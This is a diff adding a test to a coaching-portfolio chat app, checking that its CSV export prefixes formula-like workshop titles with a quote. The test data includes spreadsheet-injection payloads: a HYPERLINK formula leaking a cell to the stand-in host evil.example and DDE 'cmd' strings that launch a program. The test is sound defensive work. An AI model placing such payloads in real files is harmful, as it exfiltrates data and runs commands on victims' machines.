@@ -55,3 +55,21 @@ async def test_another_coachs_record_and_bad_input(chat: ConsoleChat, staff: Sta
     assert "earlier date to a later one" in range_.text
     [teacher] = await chat.say("/portfolio", as_=staff.rivera)
     assert "only for coaches" in teacher.text
+
+
+async def test_the_csv_runs_no_formula_a_title_starts_with(chat: ConsoleChat,
+                                                           staff: Staff) -> None:
+    """A title is typed (a workshop's, or a tool's name on a pilot): opened in a spreadsheet,
+    it is shown as typed after a leading quote, never run; numbers stay numbers."""
+    typed = ['=HYPERLINK("http://evil.example/?d="&A3,"click")', "+1+2",
+             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "Nearpod basics"]
+    for day, title in enumerate(typed, start=10):
+        await chat.submit("portfolio.workshop", {"title": title, "kind": "workshop",
+                                                 "held_on": f"2026-11-{day}",
+                                                 "attendees": "14", "hours": "1.5"},
+                          "", as_=staff.coach)
+    [as_csv] = await chat.say("/portfolio csv", as_=staff.coach)
+    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
+    assert [r["title"] for r in rows] == [*("'" + t for t in typed[:4]), "Nearpod basics"]
+    assert (rows[-1]["date"], rows[-1]["people"], rows[-1]["hours"]) == ("2026-11-14", "14",
+                                                                         "1.5")
